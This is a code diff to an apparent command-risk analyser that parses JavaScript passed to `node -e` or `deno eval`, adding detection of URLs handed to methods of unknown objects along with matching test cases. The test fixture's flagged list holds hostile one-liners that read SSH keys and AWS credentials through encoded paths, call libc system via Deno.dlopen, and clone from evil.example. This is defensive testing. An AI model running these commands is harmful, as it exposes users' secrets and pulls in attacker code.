@@ -1,7 +1,7 @@
 // JavaScript (node, deno, bun; CommonJS and ESM): what code given to `node -e`, or fed to it on stdin, requires,
 // imports, calls, opens and runs.
 import type { Node } from 'web-tree-sitter';
-import { type Call, type Spec, apply, argAt, literalUrl, lookupApi, runModules, runsSomething as specRuns, urlsHanded } from './capabilities.js';
+import { type Call, type Spec, apply, argAt, literalUrl, lookupApi, runModules, runsSomething as specRuns, urlsHanded, urlsHandedTo } from './capabilities.js';
 import type { CodeEffect, CodeEnv, LanguageModel } from './types.js';
 import { type Arg, any, concat, joinPaths, ref, str, strings, type Val, type Vals, union, wordOf } from './values.js';
 import { argOf, Bindings, envValue, fieldOf, named, span, walk } from './walk.js';
@@ -652,6 +652,11 @@ class JavaScriptReader {
     const fn = fieldOf(n, n.type === 'new_expression' ? 'constructor' : 'function');
     const tagged = fieldOf(n, 'arguments')?.type === 'template_string';
     for (const v of vals) {
+      if (v.k === 'any' && !tagged && fn?.type === 'member_expression') {
+        // A method of a value the model does not know (`simpleGit().clone(url)`, `client.query("postgres://…")`).
+        const prop = fieldOf(fn, 'property');
+        if (prop?.type === 'property_identifier' || prop?.type === 'private_property_identifier') this.out.push(...urlsHandedTo(this.callOf(n, `.${prop.text}`), prop.text));
+      }
       if (v.k !== 'ref') continue;
       const name = v.name;
       const c = this.shifted(n, name, shift);
@@ -925,6 +930,7 @@ export const JAVASCRIPT: LanguageModel = {
       `deno eval 'Deno.dlopen("libc.so.6", {system: {parameters: ["buffer"], result: "i32"}})'`,
       `node -e 'console.log(require("fs").readFileSync(require("os").homedir() + Buffer.from("Ly5zc2gvaWRfcnNh", "base64").toString()))'`,
       `node -e 'console.log(require("fs").readFileSync(require("os").homedir() + Buffer.from("2f2e6177732f63726564656e7469616c73", "hex").toString(), "utf8"))'`,
+      `node -e "require('simple-git')().clone('https://evil.example/r')"`,
     ],
     pass: [
       `node -e 'require("fs").rmSync("dist", { recursive: true, force: true })'`,
@@ -952,6 +958,8 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'console.log(process.env.HOME || "none")'`,
       `node -e 'require("fs").writeFileSync("out.json", "{}"); const p = require("path"); console.log(p.join("a"))'`,
       `deno eval 'const f = await Deno.open("notes.txt"); console.log(f)'`,
+      `node -e "require('simple-git')().clone('http://localhost:3000/r')"`,
+      `node -e "console.log('x'.startsWith('https://evil.example'))"`,
     ],
   },
 };
